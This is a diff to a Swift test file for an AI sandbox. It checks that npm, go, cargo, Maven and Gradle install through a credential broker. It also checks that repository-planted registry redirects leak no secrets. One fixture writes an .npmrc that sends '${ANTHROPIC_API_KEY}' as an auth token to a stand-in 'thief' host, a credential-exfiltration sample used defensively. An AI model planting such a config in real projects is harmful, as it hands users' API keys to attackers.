@@ -120,7 +120,7 @@ extension Sandboxes {
         }
 
         @Test(
-            "npm, go, Maven and Gradle install from a mirror with a credential, through the broker, with nothing set by hand"
+            "npm, go, cargo, Maven and Gradle install from a mirror with a credential, through the broker, with nothing set by hand"
         )
         func broker() throws {
             let mirror = try LabMirror()
@@ -129,7 +129,8 @@ extension Sandboxes {
             let fixture = try MirrorTests.fixture(
                 mirror, engine: .crun,
                 mirrors: [
-                    "pip=\(url)/simple", "npm=\(url)/npm", "go=\(url)/go", "maven=\(url)/maven", "gradle=\(url)/maven",
+                    "pip=\(url)/simple", "npm=\(url)/npm", "go=\(url)/go", "cargo=\(url)/sparse",
+                    "maven=\(url)/maven", "gradle=\(url)/maven",
                 ]
                 .joined(separator: ","),
                 settings: ["AIBOX_IMAGE": "localhost/aibox/full:1"])
@@ -144,6 +145,14 @@ extension Sandboxes {
                     "go",
                     "go mod init lab; printf 'package main\\nimport \"lab.test/mod\"\\nfunc main() { println(mod.Word) }' >main.go;"
                         + " export GONOSUMDB=lab.test; go get lab.test/mod; go run . 2>&1", "from-go"
+                ),
+                (
+                    // The image's cargo 1.65 has sparse registries, but asks for leave to use them; 1.68 does not.
+                    "cargo",
+                    "export RUSTC_BOOTSTRAP=1 CARGO_UNSTABLE_SPARSE_REGISTRY=true; cargo init -q --vcs none --name lab;"
+                        + " echo 'lab-package = {version = \"1\", registry = \"mirror\"}' >>Cargo.toml;"
+                        + " echo 'fn main() { println!(\"{}\", lab_package::WORD) }' >src/main.rs; cargo run -q",
+                    "from-cargo"
                 ),
                 (
                     "maven",
@@ -174,12 +183,40 @@ extension Sandboxes {
                     result.succeeded && result.text.contains(says), "\(client): \(result.text) \(result.errorText)")
             }
             #expect(mirror.requests.allSatisfy { $0.contains("\"right\": true") })
-            for path in ["lab.test/mod/@v/v1.0.0.zip", "/maven/lab/missing/", "/maven/lab/other/"] {
+            for path in [
+                "lab.test/mod/@v/v1.0.0.zip", "/crates/lab-package-1.0.0.crate", "/maven/lab/missing/",
+                "/maven/lab/other/",
+            ] {
                 #expect(mirror.requests.contains { $0.contains(path) }, "\(path)")
             }
             // What leaves the sandbox in the project says nothing of the broker.
             let lock = try fixture.shell("cat", "/tmp/npm-work/package-lock.json")
             #expect(lock.text.contains("lab-package") && !lock.text.contains("10.200.1.1"), "\(lock.text)")
+        }
+
+        @Test("npm and cargo that a repository sends elsewhere reach what the policy lists, and bring no secret there")
+        func redirected() throws {
+            let (thief, provider) = (try LabProvider(), try LabProvider())
+            let key = "sk-canary-" + String(UInt64.random(in: .min ... .max), radix: 36)
+            let fixture = try RedirectionTests.fixture(
+                thief, provider, key, more: ["AIBOX_IMAGE": "localhost/aibox/full:1"])
+            try fixture.start()
+            let package = "[package]\\nname = \"x\"\\nversion = \"1.0.0\"\\n[dependencies]\\nserde = \"1\"\\n"
+            let rows = [
+                RedirectionTests.Row(
+                    client: "npm", file: ".npmrc",
+                    text: "registry=http://HOST/npm/\n//HOST/npm/:_authToken=${ANTHROPIC_API_KEY}\nfetch-retries=0\n",
+                    command: "timeout 60 npm install --no-audit lab-package", asks: "/npm/lab-package",
+                    showsSurrogate: true),
+                RedirectionTests.Row(
+                    client: "cargo", file: ".cargo/config.toml",
+                    text: "[net]\ngit-fetch-with-cli = true\n[source.crates-io]\nreplace-with = \"lab\"\n"
+                        + "[source.lab]\nregistry = \"http://HOST/index.git\"\n",
+                    command: "printf '\(package)' >Cargo.toml; mkdir -p src; touch src/lib.rs; timeout 60 cargo fetch",
+                    asks: "/index.git/info/refs"),
+            ]
+            for row in rows { try RedirectionTests.check(row, thief, fixture, secrets: [key]) }
+            #expect(provider.log == "")
         }
     }
 }
